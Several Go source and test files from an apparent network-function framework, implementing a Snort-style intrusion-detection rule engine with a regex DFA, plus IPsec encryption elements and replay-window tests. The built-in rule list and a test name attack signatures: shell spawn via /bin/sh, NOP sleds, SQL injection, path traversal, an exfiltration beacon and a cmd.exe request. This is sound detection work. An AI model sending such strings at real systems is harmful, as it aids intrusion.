	if r := e.Process(pc, p); r != element.Drop || p.Anno[packet.AnnoMatchResult] != 7777 {
		t.Errorf("custom rule not applied: r=%d anno=%d", r, p.Anno[packet.AnnoMatchResult])
	}
	if err := e.Configure(cc, []string{"bogus=1"}); err == nil {
		t.Error("bad parameter accepted")
	}
	if err := e.Configure(cc, []string{"rules=garbage"}); err == nil {
		t.Error("garbage rules accepted")
	}
}

func TestDefaultSnortRulesCompile(t *testing.T) {
	rules, err := ParseRules(DefaultSnortRules)
	if err != nil {
		t.Fatal(err)
	}
	if len(rules) < 5 {
		t.Fatalf("only %d built-in rules", len(rules))
	}
	if _, err := CompileRuleSet(rules); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(DefaultSnortRules, "sid:2003") {
		t.Error("expected demonstration sid missing")
	}
}

func BenchmarkRuleSetMatch(b *testing.B) {
	rules, _ := ParseRules(DefaultSnortRules)
	rs, _ := CompileRuleSet(rules)
	p := &packet.Packet{}
	n := packet.BuildUDP4(p.Buf(), [6]byte{2}, [6]byte{4}, 1, 2, 1234, 53, 512)
	p.SetLength(n)
	b.SetBytes(512)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rs.Match(p)
	}
}

func TestRuleSetTCPProto(t *testing.T) {
	rules, err := ParseRules(`
		alert tcp any any -> any 80 (msg:"http attack"; content:"cmd.exe"; sid:20;)
		alert udp any any -> any any (msg:"udp only"; content:"cmd.exe"; sid:21;)
	`)
	if err != nil {
		t.Fatal(err)
	}
	rs, err := CompileRuleSet(rules)
	if err != nil {
		t.Fatal(err)
	}
	// A TCP packet to port 80 containing the signature matches rule 0.
	p := &packet.Packet{}
	payload := "GET /cmd.exe HTTP/1.0"
	frameLen := packet.EthHdrLen + packet.IPv4HdrLen + packet.TCPHdrLen + len(payload)
	n := packet.BuildTCP4(p.Buf(), [6]byte{2}, [6]byte{4}, 1, 2, 40000, 80, 7, packet.TCPPsh|packet.TCPAck, frameLen)
	p.SetLength(n)
	copy(p.Buf()[packet.EthHdrLen+packet.IPv4HdrLen+packet.TCPHdrLen:], payload)
	if got := rs.Match(p); got != 0 {
		t.Errorf("tcp match = %d, want 0", got)
	}
	// The same payload over UDP matches the UDP rule instead.
	u := mkRulePkt(t, 80, payload)
	if got := rs.Match(u); got != 1 {
		t.Errorf("udp match = %d, want 1", got)
	}
}
