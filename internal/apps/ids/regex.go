package ids

import (
	"fmt"
	"sort"
	"strings"
)

// The regex engine compiles a PCRE-like subset — literals, '.', character
// classes with ranges and negation, escapes (\d \w \s \n \t and punctuation),
// grouping, alternation, and the * + ? repetitions — through a Thompson NFA
// into a scanning DFA (implicit leading ".*", so a match anywhere in the
// input accepts). This mirrors the paper's "PCRE ... with their DFA forms
// using standard approaches".

// byteSet is a 256-bit set.
type byteSet [4]uint64

func (s *byteSet) add(c byte)      { s[c>>6] |= 1 << (c & 63) }
func (s *byteSet) has(c byte) bool { return s[c>>6]&(1<<(c&63)) != 0 }
func (s *byteSet) addRange(lo, hi byte) {
	for c := int(lo); c <= int(hi); c++ {
		s.add(byte(c))
	}
}
func (s *byteSet) negate() {
	for i := range s {
		s[i] = ^s[i]
	}
}

// AST.
type reNode interface{ isRE() }

type reChar struct{ set byteSet }
type reConcat struct{ parts []reNode }
type reAlt struct{ opts []reNode }
type reStar struct{ sub reNode }
type rePlus struct{ sub reNode }
type reQuest struct{ sub reNode }
type reEmpty struct{}

func (reChar) isRE()   {}
func (reConcat) isRE() {}
func (reAlt) isRE()    {}
func (reStar) isRE()   {}
func (rePlus) isRE()   {}
func (reQuest) isRE()  {}
func (reEmpty) isRE()  {}

// ParseRegex parses the supported syntax into an AST.
func ParseRegex(pattern string) (reNode, error) {
	p := &reParser{src: pattern}
	n, err := p.alt()
	if err != nil {
		return nil, fmt.Errorf("ids: regex %q: %w", pattern, err)
	}
	if p.pos != len(p.src) {
		return nil, fmt.Errorf("ids: regex %q: unexpected %q at %d", pattern, p.src[p.pos], p.pos)
	}
	return n, nil
}

type reParser struct {
	src string
	pos int
}

func (p *reParser) alt() (reNode, error) {
	first, err := p.concat()
	if err != nil {
		return nil, err
	}
	opts := []reNode{first}
	for p.pos < len(p.src) && p.src[p.pos] == '|' {
		p.pos++
		n, err := p.concat()
		if err != nil {
			return nil, err
		}
		opts = append(opts, n)
	}
	if len(opts) == 1 {
		return first, nil
	}
	return reAlt{opts: opts}, nil
}

func (p *reParser) concat() (reNode, error) {
	var parts []reNode
	for p.pos < len(p.src) && p.src[p.pos] != '|' && p.src[p.pos] != ')' {
		n, err := p.repeat()
		if err != nil {
			return nil, err
		}
		parts = append(parts, n)
	}
	switch len(parts) {
	case 0:
		return reEmpty{}, nil
	case 1:
		return parts[0], nil
	default:
		return reConcat{parts: parts}, nil
	}
}

func (p *reParser) repeat() (reNode, error) {
	n, err := p.atom()
	if err != nil {
		return nil, err
	}
	for p.pos < len(p.src) {
		switch p.src[p.pos] {
		case '*':
			n = reStar{sub: n}
		case '+':
			n = rePlus{sub: n}
		case '?':
			n = reQuest{sub: n}
		default:
			return n, nil
		}
		p.pos++
	}
	return n, nil
}

func (p *reParser) atom() (reNode, error) {
	if p.pos >= len(p.src) {
		return nil, fmt.Errorf("unexpected end of pattern")
	}
	c := p.src[p.pos]
	switch c {
	case '(':
		p.pos++
		n, err := p.alt()
		if err != nil {
			return nil, err
		}
		if p.pos >= len(p.src) || p.src[p.pos] != ')' {
			return nil, fmt.Errorf("missing ')'")
		}
		p.pos++
		return n, nil
	case '[':
		return p.class()
	case '.':
		p.pos++
		var s byteSet
		s.addRange(0, 255)
		return reChar{set: s}, nil
	case '\\':
		p.pos++
		return p.escape()
	case '*', '+', '?':
		return nil, fmt.Errorf("repetition %q with nothing to repeat", c)
	case ')':
		return nil, fmt.Errorf("unmatched ')'")
	default:
		p.pos++
		var s byteSet
		s.add(c)
		return reChar{set: s}, nil
	}
}

func (p *reParser) escape() (reNode, error) {
	if p.pos >= len(p.src) {
		return nil, fmt.Errorf("trailing backslash")
	}
	c := p.src[p.pos]
	p.pos++
	var s byteSet
	switch c {
	case 'd':
		s.addRange('0', '9')
	case 'w':
		s.addRange('a', 'z')
		s.addRange('A', 'Z')
		s.addRange('0', '9')
		s.add('_')
	case 's':
		for _, ws := range []byte{' ', '\t', '\n', '\r', '\f', '\v'} {
			s.add(ws)
		}
	case 'n':
		s.add('\n')
	case 't':
		s.add('\t')
	case 'r':
		s.add('\r')
	default:
		if strings.ContainsRune(`\.[]()|*+?^$-/{}"'`, rune(c)) {
			s.add(c)
		} else {
			return nil, fmt.Errorf("unsupported escape \\%c", c)
		}
	}
	return reChar{set: s}, nil
}

func (p *reParser) class() (reNode, error) {
	p.pos++ // consume [
	var s byteSet
	negate := false
	if p.pos < len(p.src) && p.src[p.pos] == '^' {
		negate = true
		p.pos++
	}
	empty := true
	for {
		if p.pos >= len(p.src) {
			return nil, fmt.Errorf("missing ']'")
		}
		c := p.src[p.pos]
		if c == ']' && !empty {
			p.pos++
			break
		}
		p.pos++
		if c == '\\' {
			if p.pos >= len(p.src) {
				return nil, fmt.Errorf("trailing backslash in class")
			}
			c = classEscape(p.src[p.pos])
			p.pos++
		}
		empty = false
		// Range?
		if p.pos+1 < len(p.src) && p.src[p.pos] == '-' && p.src[p.pos+1] != ']' {
			p.pos++
			hi := p.src[p.pos]
			p.pos++
			if hi == '\\' {
				if p.pos >= len(p.src) {
					return nil, fmt.Errorf("trailing backslash in class")
				}
				hi = classEscape(p.src[p.pos])
				p.pos++
			}
			if hi < c {
				return nil, fmt.Errorf("inverted range %c-%c", c, hi)
			}
			s.addRange(c, hi)
			continue
		}
		s.add(c)
	}
	if negate {
		s.negate()
	}
	return reChar{set: s}, nil
}

func classEscape(c byte) byte {
	switch c {
	case 'n':
		return '\n'
	case 't':
		return '\t'
	case 'r':
		return '\r'
	default:
		return c
	}
}

// --- Thompson NFA ---

type nfaState struct {
	// Byte transition: on any c in set, go to to (valid when hasByte).
	hasByte bool
	set     byteSet
	to      int
	// Epsilon transitions.
	eps []int
	// accept holds the rule ID accepted at this state, or -1.
	accept int
}

type nfa struct {
	states []nfaState
	start  int
}

func (n *nfa) add() int {
	n.states = append(n.states, nfaState{accept: -1})
	return len(n.states) - 1
}

// build compiles node into the NFA, returning (entry, exit) states.
func (n *nfa) build(node reNode) (int, int) {
	switch t := node.(type) {
	case reEmpty:
		s := n.add()
		return s, s
	case reChar:
		in := n.add()
		out := n.add()
		n.states[in].hasByte = true
		n.states[in].set = t.set
		n.states[in].to = out
		return in, out
	case reConcat:
		first, last := -1, -1
		for _, part := range t.parts {
			in, out := n.build(part)
			if first == -1 {
				first = in
			} else {
				n.states[last].eps = append(n.states[last].eps, in)
			}
			last = out
		}
		return first, last
	case reAlt:
		in := n.add()
		out := n.add()
		for _, opt := range t.opts {
			oin, oout := n.build(opt)
			n.states[in].eps = append(n.states[in].eps, oin)
			n.states[oout].eps = append(n.states[oout].eps, out)
		}
		return in, out
	case reStar:
		in := n.add()
		out := n.add()
		sin, sout := n.build(t.sub)
		n.states[in].eps = append(n.states[in].eps, sin, out)
		n.states[sout].eps = append(n.states[sout].eps, sin, out)
		return in, out
	case rePlus:
		sin, sout := n.build(t.sub)
		out := n.add()
		n.states[sout].eps = append(n.states[sout].eps, sin, out)
		return sin, out
	case reQuest:
		in := n.add()
		out := n.add()
		sin, sout := n.build(t.sub)
		n.states[in].eps = append(n.states[in].eps, sin, out)
		n.states[sout].eps = append(n.states[sout].eps, out)
		return in, out
	default:
		panic(fmt.Sprintf("ids: unknown regex node %T", node))
	}
}

// --- DFA (subset construction) ---

// MaxDFAStates bounds subset construction; exceeding it is a compile error.
const MaxDFAStates = 65536

// DFA is a scanning automaton over rules: Accept[s] is the lowest rule ID
// accepted at state s, or -1.
type DFA struct {
	next   [][256]int32
	accept []int32
	rules  []string
}

// CompileRules builds one scanning DFA matching any of the rules anywhere
// in the input (implicit ".*" prefix).
func CompileRules(rules []string) (*DFA, error) {
	if len(rules) == 0 {
		return nil, fmt.Errorf("ids: empty rule set")
	}
	n := &nfa{}
	n.start = n.add()
	for id, rule := range rules {
		ast, err := ParseRegex(rule)
		if err != nil {
			return nil, err
		}
		in, out := n.build(ast)
		n.states[n.start].eps = append(n.states[n.start].eps, in)
		n.states[out].accept = id
	}

	closure := func(set []int) []int {
		seen := map[int]bool{}
		var stack []int
		for _, s := range set {
			if !seen[s] {
				seen[s] = true
				stack = append(stack, s)
			}
		}
		for len(stack) > 0 {
			s := stack[len(stack)-1]
			stack = stack[:len(stack)-1]
			for _, e := range n.states[s].eps {
				if !seen[e] {
					seen[e] = true
					stack = append(stack, e)
				}
			}
		}
		out := make([]int, 0, len(seen))
		for s := range seen {
			out = append(out, s)
		}
		sort.Ints(out)
		return out
	}

	key := func(set []int) string {
		var sb strings.Builder
		for _, s := range set {
			fmt.Fprintf(&sb, "%d,", s)
		}
		return sb.String()
	}

	d := &DFA{rules: rules}
	ids := map[string]int32{}
	var sets [][]int
	// Scanning semantics: every subset implicitly contains the NFA start
	// (the ".*" self-loop).
	start := closure([]int{n.start})
	ids[key(start)] = 0
	sets = append(sets, start)
	d.next = append(d.next, [256]int32{})
	d.accept = append(d.accept, acceptOf(n, start))

	for si := 0; si < len(sets); si++ {
		set := sets[si]
		for c := 0; c < 256; c++ {
			var moved []int
			for _, s := range set {
				st := &n.states[s]
				if st.hasByte && st.set.has(byte(c)) {
					moved = append(moved, st.to)
				}
			}
			moved = append(moved, n.start) // implicit .* restart
			nextSet := closure(moved)
			k := key(nextSet)
			id, ok := ids[k]
			if !ok {
				if len(sets) >= MaxDFAStates {
					return nil, fmt.Errorf("ids: DFA exceeds %d states", MaxDFAStates)
				}
				id = int32(len(sets))
				ids[k] = id
				sets = append(sets, nextSet)
				d.next = append(d.next, [256]int32{})
				d.accept = append(d.accept, acceptOf(n, nextSet))
			}
			d.next[si][c] = id
		}
	}
	return d, nil
}

func acceptOf(n *nfa, set []int) int32 {
	best := int32(-1)
	for _, s := range set {
		if a := n.states[s].accept; a >= 0 {
			if best == -1 || int32(a) < best {
				best = int32(a)
			}
		}
	}
	return best
}

// States returns the DFA size.
func (d *DFA) States() int { return len(d.next) }

// Rules returns the compiled rule set.
func (d *DFA) Rules() []string { return d.rules }

// Match scans data and returns the lowest rule ID that matches anywhere,
// or -1.
func (d *DFA) Match(data []byte) int {
	best := int32(-1)
	s := int32(0)
	if a := d.accept[0]; a >= 0 {
		best = a
	}
	for _, c := range data {
		s = d.next[s][c]
		if a := d.accept[s]; a >= 0 && (best == -1 || a < best) {
			best = a
		}
	}
	return int(best)
}
