package ids

import (
	"fmt"
	"strconv"
	"strings"

	"nba/internal/batch"
	"nba/internal/element"
	"nba/internal/packet"
)

// This file implements a Snort-flavoured rule language (the paper's IDS
// matches "signatures" in the style of Snort rules) and its compiler into
// the Aho-Corasick and regex-DFA engines:
//
//	alert udp any any -> any 53 (msg:"dns tunnel"; content:"evil"; pcre:"/[a-z]+[0-9]/"; sid:1001;)
//
// Supported header: action ∈ {alert, drop}; proto ∈ {ip, udp, tcp};
// addresses are "any" (address matching is delegated to classifiers in the
// pipeline); ports are "any" or a literal. Options: msg, content (repeatable,
// all must match), pcre, sid.

// RuleAction is what happens when a rule matches.
type RuleAction int

const (
	// ActionAlert annotates and forwards.
	ActionAlert RuleAction = iota
	// ActionDrop discards the packet.
	ActionDrop
)

// Rule is one parsed IDS rule.
type Rule struct {
	Action   RuleAction
	Proto    string // "ip", "udp", "tcp"
	SrcPort  int    // -1 = any
	DstPort  int    // -1 = any
	Msg      string
	Contents []string // all must be present in the payload
	PCRE     string   // optional regular expression
	SID      int
}

// ParseRules parses a rule file (one rule per line; '#' comments).
func ParseRules(text string) ([]Rule, error) {
	var rules []Rule
	for lineNo, line := range strings.Split(text, "\n") {
		line = strings.TrimSpace(line)
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		r, err := parseRule(line)
		if err != nil {
			return nil, fmt.Errorf("ids: rule line %d: %w", lineNo+1, err)
		}
		rules = append(rules, r)
	}
	if len(rules) == 0 {
		return nil, fmt.Errorf("ids: no rules found")
	}
	return rules, nil
}

func parseRule(line string) (Rule, error) {
	open := strings.IndexByte(line, '(')
	if open < 0 || !strings.HasSuffix(line, ")") {
		return Rule{}, fmt.Errorf("missing option block '(...)'")
	}
	header := strings.Fields(line[:open])
	if len(header) != 7 {
		return Rule{}, fmt.Errorf("header needs 7 fields (action proto src sport -> dst dport), got %d", len(header))
	}
	var r Rule
	switch header[0] {
	case "alert":
		r.Action = ActionAlert
	case "drop":
		r.Action = ActionDrop
	default:
		return Rule{}, fmt.Errorf("unknown action %q", header[0])
	}
	switch header[1] {
	case "ip", "udp", "tcp":
		r.Proto = header[1]
	default:
		return Rule{}, fmt.Errorf("unknown protocol %q", header[1])
	}
	if header[2] != "any" || header[5] != "any" {
		return Rule{}, fmt.Errorf("only 'any' addresses are supported")
	}
	if header[4] != "->" {
		return Rule{}, fmt.Errorf("expected '->', got %q", header[4])
	}
	var err error
	if r.SrcPort, err = parsePort(header[3]); err != nil {
		return Rule{}, err
	}
	if r.DstPort, err = parsePort(header[6]); err != nil {
		return Rule{}, err
	}

	opts := strings.TrimSuffix(line[open+1:], ")")
	for _, opt := range splitOptions(opts) {
		key, value, found := strings.Cut(opt, ":")
		key = strings.TrimSpace(key)
		value = strings.TrimSpace(value)
		if !found {
			if key == "" {
				continue
			}
			return Rule{}, fmt.Errorf("malformed option %q", opt)
		}
		switch key {
		case "msg":
			r.Msg = unquote(value)
		case "content":
			c := unquote(value)
			if c == "" {
				return Rule{}, fmt.Errorf("empty content")
			}
			r.Contents = append(r.Contents, c)
		case "pcre":
			p := unquote(value)
			p = strings.TrimPrefix(p, "/")
			p = strings.TrimSuffix(p, "/")
			if p == "" {
				return Rule{}, fmt.Errorf("empty pcre")
			}
			r.PCRE = p
		case "sid":
			sid, err := strconv.Atoi(value)
			if err != nil || sid < 0 {
				return Rule{}, fmt.Errorf("bad sid %q", value)
			}
			r.SID = sid
		default:
			return Rule{}, fmt.Errorf("unknown option %q", key)
		}
	}
	if len(r.Contents) == 0 && r.PCRE == "" {
		return Rule{}, fmt.Errorf("rule needs at least one content or pcre option")
	}
	return r, nil
}

func parsePort(s string) (int, error) {
	if s == "any" {
		return -1, nil
	}
	p, err := strconv.Atoi(s)
	if err != nil || p < 0 || p > 65535 {
		return 0, fmt.Errorf("bad port %q", s)
	}
	return p, nil
}

// splitOptions splits "a;b;c" respecting quoted strings.
func splitOptions(s string) []string {
	var out []string
	var sb strings.Builder
	inQuote := false
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c == '"':
			inQuote = !inQuote
			sb.WriteByte(c)
		case c == ';' && !inQuote:
			out = append(out, sb.String())
			sb.Reset()
		default:
			sb.WriteByte(c)
		}
	}
	if sb.Len() > 0 {
		out = append(out, sb.String())
	}
	return out
}

func unquote(s string) string {
	s = strings.TrimSpace(s)
	if len(s) >= 2 && s[0] == '"' && s[len(s)-1] == '"' {
		return s[1 : len(s)-1]
	}
	return s
}

// RuleSet is a compiled rule collection: one Aho-Corasick automaton over
// every content pattern, one scanning DFA per pcre, plus per-rule port and
// protocol predicates evaluated on match candidates.
type RuleSet struct {
	Rules []Rule

	ac *AC
	// patRule[i] lists (rule index, content index) pairs for AC pattern i.
	patOwners [][]int
	// contentCount[r] is how many contents rule r requires.
	contentCount []int
	dfas         []*DFA // indexed by rule; nil if no pcre
}

// CompileRuleSet builds the matching machinery for a parsed rule list.
func CompileRuleSet(rules []Rule) (*RuleSet, error) {
	rs := &RuleSet{Rules: rules, contentCount: make([]int, len(rules)), dfas: make([]*DFA, len(rules))}
	var patterns []string
	for ri, r := range rules {
		rs.contentCount[ri] = len(r.Contents)
		for _, c := range r.Contents {
			patterns = append(patterns, c)
			rs.patOwners = append(rs.patOwners, []int{ri})
		}
		if r.PCRE != "" {
			d, err := CompileRules([]string{r.PCRE})
			if err != nil {
				return nil, fmt.Errorf("ids: rule sid=%d: %w", r.SID, err)
			}
			rs.dfas[ri] = d
		}
	}
	if len(patterns) > 0 {
		ac, err := BuildAC(patterns)
		if err != nil {
			return nil, err
		}
		rs.ac = ac
	}
	return rs, nil
}

// Match evaluates the rule set against one packet. It returns the index of
// the first matching rule (lowest index) or -1.
func (rs *RuleSet) Match(pkt *packet.Packet) int {
	f := pkt.Data()
	if len(f) < packet.EthHdrLen+packet.IPv4HdrLen {
		return -1
	}
	ip := f[packet.EthHdrLen:]
	proto := packet.IPv4Proto(ip)
	var sport, dport uint16
	ihl := packet.IPv4IHL(ip)
	if (proto == packet.ProtoUDP || proto == 6) && len(ip) >= ihl+4 {
		sport = packet.UDPSrcPort(ip[ihl:])
		dport = packet.UDPDstPort(ip[ihl:])
	}
	payload := f[packet.EthHdrLen:]

	// Phase 1: collect content hits per rule via one AC scan.
	var hits map[int]map[string]bool
	if rs.ac != nil {
		rs.ac.Scan(payload, func(id, end int) bool {
			ri := rs.patOwners[id][0]
			if hits == nil {
				hits = make(map[int]map[string]bool)
			}
			m := hits[ri]
			if m == nil {
				m = make(map[string]bool)
				hits[ri] = m
			}
			m[rs.ac.Patterns()[id]] = true
			return true
		})
	}

	// Phase 2: evaluate candidate rules in order.
	for ri, r := range rs.Rules {
		if !r.matchesHeader(proto, sport, dport) {
			continue
		}
		if rs.contentCount[ri] > 0 {
			if hits == nil || len(hits[ri]) < rs.contentCount[ri] {
				continue
			}
		}
		if d := rs.dfas[ri]; d != nil {
			if d.Match(payload) < 0 {
				continue
			}
		}
		return ri
	}
	return -1
}

func (r *Rule) matchesHeader(proto int, sport, dport uint16) bool {
	switch r.Proto {
	case "udp":
		if proto != packet.ProtoUDP {
			return false
		}
	case "tcp":
		if proto != 6 {
			return false
		}
	}
	if r.SrcPort >= 0 && int(sport) != r.SrcPort {
		return false
	}
	if r.DstPort >= 0 && int(dport) != r.DstPort {
		return false
	}
	return true
}

// DefaultSnortRules is the built-in demonstration rule file.
const DefaultSnortRules = `
# NBA IDS demonstration rules (Snort-flavoured subset).
alert udp any any -> any 53   (msg:"suspicious long dns label"; pcre:"/[a-z0-9]([a-z0-9-]+[a-z0-9])+[a-z0-9]{24}/"; sid:2001;)
alert ip  any any -> any any  (msg:"shellcode nop sled"; content:"\x90\x90\x90\x90"; sid:2002;)
drop  ip  any any -> any any  (msg:"shell spawn"; content:"/bin/sh"; sid:2003;)
alert udp any any -> any any  (msg:"sql injection"; content:"UNION SELECT"; content:"FROM"; sid:2004;)
alert ip  any any -> any 80   (msg:"path traversal"; content:"../../../"; sid:2005;)
drop  ip  any any -> any any  (msg:"exfil beacon"; content:"exfil.begin"; pcre:"/id=[0-9a-f]+/"; sid:2006;)
`

// IDSRuleMatch is an element evaluating a full Snort-style rule set on the
// CPU. Parameters: none (built-in rules) or "rules=<inline rule text>".
type IDSRuleMatch struct {
	rs *RuleSet
	// Alerts / Drops count matched packets per action.
	Alerts uint64
	Drops  uint64
}

// Class implements element.Element.
func (*IDSRuleMatch) Class() string { return "IDSRuleMatch" }

// OutPorts implements element.Element.
func (*IDSRuleMatch) OutPorts() int { return 1 }

// Configure implements element.Element. Content patterns are matched as
// literal bytes (no escape processing).
func (e *IDSRuleMatch) Configure(ctx *element.ConfigContext, args []string) error {
	text := DefaultSnortRules
	for _, a := range args {
		switch {
		case strings.HasPrefix(a, "rules="):
			text = strings.TrimPrefix(a, "rules=")
		default:
			return fmt.Errorf("IDSRuleMatch: unknown parameter %q", a)
		}
	}
	key := "ids.ruleset." + text
	var berr error
	e.rs = element.GetOrCreate(ctx.NodeLocal, key, func() *RuleSet {
		rules, err := ParseRules(text)
		if err != nil {
			berr = err
			return nil
		}
		rs, err := CompileRuleSet(rules)
		if err != nil {
			berr = err
			return nil
		}
		return rs
	})
	return berr
}

// Process implements element.Element.
func (e *IDSRuleMatch) Process(ctx *element.ProcContext, pkt *packet.Packet) int {
	return e.evaluate(pkt)
}

func (e *IDSRuleMatch) evaluate(pkt *packet.Packet) int {
	ri := e.rs.Match(pkt)
	if ri < 0 {
		return 0
	}
	rule := &e.rs.Rules[ri]
	pkt.Anno[packet.AnnoMatchResult] = uint64(rule.SID)
	if rule.Action == ActionDrop {
		e.Drops++
		return element.Drop
	}
	e.Alerts++
	return 0
}

// Datablocks implements element.Offloadable: the payload goes to the device
// (sharing the IDS payload block with the simple matchers), verdicts come
// back.
func (e *IDSRuleMatch) Datablocks() []element.Datablock {
	return []element.Datablock{
		{Name: "ids.payload", Kind: element.WholePacket, Offset: packet.EthHdrLen, H2D: true},
		{Name: "ids.verdict", Kind: element.UserData, UserBytes: 4, D2H: true},
	}
}

// ProcessOffloaded implements the device-side function.
func (e *IDSRuleMatch) ProcessOffloaded(ctx *element.ProcContext, b *batch.Batch) {
	b.ForEachLive(func(i int, pkt *packet.Packet) {
		if e.evaluate(pkt) == element.Drop {
			b.SetResult(i, batch.ResultDrop)
		}
	})
}
