package ipsec

import (
	"testing"
	"testing/quick"

	"nba/internal/element"
	"nba/internal/packet"
	"nba/internal/rng"
)

func TestReplayWindowBasics(t *testing.T) {
	var w ReplayWindow
	if w.Check(0) {
		t.Error("seq 0 accepted")
	}
	if !w.Check(1) || !w.Check(2) || !w.Check(3) {
		t.Error("fresh ascending sequence rejected")
	}
	if w.Check(2) {
		t.Error("replay accepted")
	}
	if !w.Check(100) {
		t.Error("forward jump rejected")
	}
	if w.Highest() != 100 {
		t.Errorf("highest = %d, want 100", w.Highest())
	}
	// Within window, unseen.
	if !w.Check(50) {
		t.Error("in-window unseen seq rejected")
	}
	if w.Check(50) {
		t.Error("in-window replay accepted")
	}
	// Older than window.
	if w.Check(100 - WindowSize) {
		t.Error("stale seq accepted")
	}
	// Edge: newest-window boundary.
	if !w.Check(100 - WindowSize + 1) {
		t.Error("oldest in-window seq rejected")
	}
}

func TestReplayWindowLargeJumpResets(t *testing.T) {
	var w ReplayWindow
	w.Check(5)
	if !w.Check(5 + 10*WindowSize) {
		t.Error("large forward jump rejected")
	}
	// Everything in the old region is now stale.
	if w.Check(6) {
		t.Error("stale seq after jump accepted")
	}
}

func TestReplayWindowNeverAcceptsTwiceProperty(t *testing.T) {
	// Property: across any sequence of Check calls, a given seq is accepted
	// at most once.
	f := func(seqs []uint16) bool {
		var w ReplayWindow
		accepted := map[uint32]int{}
		for _, s16 := range seqs {
			s := uint32(s16) + 1
			if w.Check(s) {
				accepted[s]++
				if accepted[s] > 1 {
					return false
				}
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestReplayWindowMonotoneStreamAllAccepted(t *testing.T) {
	var w ReplayWindow
	for s := uint32(1); s <= 10000; s++ {
		if !w.Check(s) {
			t.Fatalf("in-order seq %d rejected", s)
		}
	}
}

func TestDecapElementRejectsReplays(t *testing.T) {
	nl := element.NewNodeLocal()
	cc := &element.ConfigContext{NodeLocal: nl, NumPorts: 4, Rand: rng.New(1)}
	pc := &element.ProcContext{NodeLocal: nl, Rand: rng.New(2), CostScale: 1}
	enc, aes, mac, dec := &ESPEncap{}, &AES{}, &HMAC{}, &ESPDecap{}
	for _, e := range []element.Element{enc, aes, mac, dec} {
		if err := e.Configure(cc, []string{"sas=8", "seed=3"}); err != nil {
			t.Fatal(err)
		}
	}
	mkEncrypted := func() *packet.Packet {
		p := mkPkt(t, 128)
		for _, e := range []element.Element{enc, aes, mac} {
			if r := e.Process(pc, p); r != 0 {
				t.Fatalf("%s failed", e.Class())
			}
		}
		return p
	}
	p1 := mkEncrypted()
	// A byte-exact replay of p1.
	replay := &packet.Packet{}
	replay.CopyFrom(p1.Data())
	replay.Anno = p1.Anno

	if r := dec.Process(pc, p1); r != 0 {
		t.Fatal("original frame rejected")
	}
	if r := dec.Process(pc, replay); r != element.Drop {
		t.Error("replayed frame accepted")
	}
	// The next legitimate packet of the flow still passes.
	p2 := mkEncrypted()
	if r := dec.Process(pc, p2); r != 0 {
		t.Error("subsequent legitimate frame rejected")
	}
}
