package ipsec

import (
	"fmt"
	"strconv"
	"strings"

	"nba/internal/batch"
	"nba/internal/element"
	"nba/internal/packet"
)

func init() {
	element.Register("IPsecESPencap", func() element.Element { return &ESPEncap{} })
	element.Register("IPsecAES", func() element.Element { return &AES{} })
	element.Register("IPsecHMAC", func() element.Element { return &HMAC{} })
	element.Register("IPsecESPdecap", func() element.Element { return &ESPDecap{} })
}

// sadbFor fetches (or builds) the socket-shared SADB.
func sadbFor(ctx *element.ConfigContext, args []string) (*SADB, error) {
	sas := 1024
	seed := uint64(99)
	for _, a := range args {
		switch {
		case strings.HasPrefix(a, "sas="):
			v, err := strconv.Atoi(strings.TrimPrefix(a, "sas="))
			if err != nil || v <= 0 {
				return nil, fmt.Errorf("bad sas %q", a)
			}
			sas = v
		case strings.HasPrefix(a, "seed="):
			v, err := strconv.ParseUint(strings.TrimPrefix(a, "seed="), 10, 64)
			if err != nil {
				return nil, fmt.Errorf("bad seed %q", a)
			}
			seed = v
		default:
			return nil, fmt.Errorf("unknown parameter %q", a)
		}
	}
	key := fmt.Sprintf("ipsec.sadb.%d.%d", sas, seed)
	var err error
	db := element.GetOrCreate(ctx.NodeLocal, key, func() *SADB {
		d, berr := NewSADB(sas, seed)
		if berr != nil {
			err = berr
		}
		return d
	})
	return db, err
}

// ESPEncap encapsulates packets into ESP tunnel mode and picks the output
// port from the SA index. Parameters: "sas=N", "seed=S".
type ESPEncap struct {
	db       *SADB
	numPorts int
}

// Class implements element.Element.
func (*ESPEncap) Class() string { return "IPsecESPencap" }

// OutPorts implements element.Element.
func (*ESPEncap) OutPorts() int { return 1 }

// Configure implements element.Element.
func (e *ESPEncap) Configure(ctx *element.ConfigContext, args []string) error {
	db, err := sadbFor(ctx, args)
	if err != nil {
		return fmt.Errorf("IPsecESPencap: %w", err)
	}
	e.db = db
	e.numPorts = ctx.NumPorts
	return nil
}

// Process implements element.Element.
func (e *ESPEncap) Process(ctx *element.ProcContext, pkt *packet.Packet) int {
	idx, err := Encap(pkt, e.db)
	if err != nil {
		return element.Drop
	}
	pkt.Anno[packet.AnnoOutPort] = uint64(idx % e.numPorts)
	return 0
}

// AES is the offloadable AES-128-CTR encryption element.
type AES struct {
	db *SADB
}

// Class implements element.Element.
func (*AES) Class() string { return "IPsecAES" }

// OutPorts implements element.Element.
func (*AES) OutPorts() int { return 1 }

// Configure implements element.Element.
func (e *AES) Configure(ctx *element.ConfigContext, args []string) error {
	db, err := sadbFor(ctx, args)
	if err != nil {
		return fmt.Errorf("IPsecAES: %w", err)
	}
	e.db = db
	return nil
}

// Process implements the CPU-side function.
func (e *AES) Process(ctx *element.ProcContext, pkt *packet.Packet) int {
	if Encrypt(pkt, e.db) != nil {
		return element.Drop
	}
	return 0
}

// Datablocks implements element.Offloadable. AES and HMAC share the
// "ipsec.frame" whole-packet datablock, so a chained offload copies the
// frame to the device once and back once (the paper's datablock reuse).
func (e *AES) Datablocks() []element.Datablock {
	return []element.Datablock{
		{Name: "ipsec.frame", Kind: element.WholePacket,
			Offset: packet.EthHdrLen, H2D: true, D2H: true},
	}
}

// ProcessOffloaded implements the device-side function.
func (e *AES) ProcessOffloaded(ctx *element.ProcContext, b *batch.Batch) {
	b.ForEachLive(func(i int, pkt *packet.Packet) {
		if Encrypt(pkt, e.db) != nil {
			b.SetResult(i, batch.ResultDrop)
		}
	})
}

// HMAC is the offloadable HMAC-SHA1 authentication element.
type HMAC struct {
	db *SADB
}

// Class implements element.Element.
func (*HMAC) Class() string { return "IPsecHMAC" }

// OutPorts implements element.Element.
func (*HMAC) OutPorts() int { return 1 }

// Configure implements element.Element.
